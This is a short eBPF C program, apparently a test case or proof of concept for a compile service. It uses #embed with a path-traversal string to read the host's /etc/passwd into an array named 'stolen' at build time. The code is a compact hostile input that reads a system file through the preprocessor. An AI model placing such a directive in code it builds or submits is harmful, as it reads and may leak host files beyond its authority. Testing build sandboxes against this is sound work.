#include "vmlinux.h"
#include <bpf/bpf_helpers.h>
const unsigned char stolen[] = {
#embed "/usr/include/../../etc/passwd"
};
SEC("tp/sched/sched_process_exec")
int handle(void *ctx)
{
	return stolen[0];
}
char LICENSE[] SEC("license") = "GPL";
